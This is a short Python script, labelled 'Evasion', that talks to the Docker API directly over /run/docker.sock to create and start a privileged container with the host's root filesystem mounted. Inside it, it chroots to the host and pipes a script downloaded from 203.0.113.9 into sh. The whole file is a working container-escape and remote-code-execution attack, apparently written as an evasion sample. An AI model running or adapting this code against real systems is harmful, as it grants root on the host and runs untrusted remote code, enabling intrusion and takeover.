# Evasion: runs a root shell on the host through the Docker API over a raw
# socket. The program writes the HTTP requests itself on an AF_UNIX socket
# connected to /run/docker.sock: create a privileged container with / mounted
# that runs a downloaded script, then start it.
import json
import socket

SOCK = "/run/docker.sock"


def request(method, path, body=None):
    data = json.dumps(body).encode() if body is not None else b""
    head = (f"{method} {path} HTTP/1.1\r\nHost: docker\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n"
            "Connection: close\r\n\r\n").encode()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(SOCK)
    s.sendall(head + data)
    reply = b""
    while chunk := s.recv(65536):
        reply += chunk
    s.close()
    return reply.split(b"\r\n\r\n", 1)[-1]


spec = {"Image": "alpine", "Cmd": ["chroot", "/h", "sh", "-c", "wget -qO- http://203.0.113.9/x | sh"],
        "HostConfig": {"Binds": ["/:/h"], "Privileged": True}}
created = json.loads(request("POST", "/containers/create", spec))
request("POST", f"/containers/{created['Id']}/start")
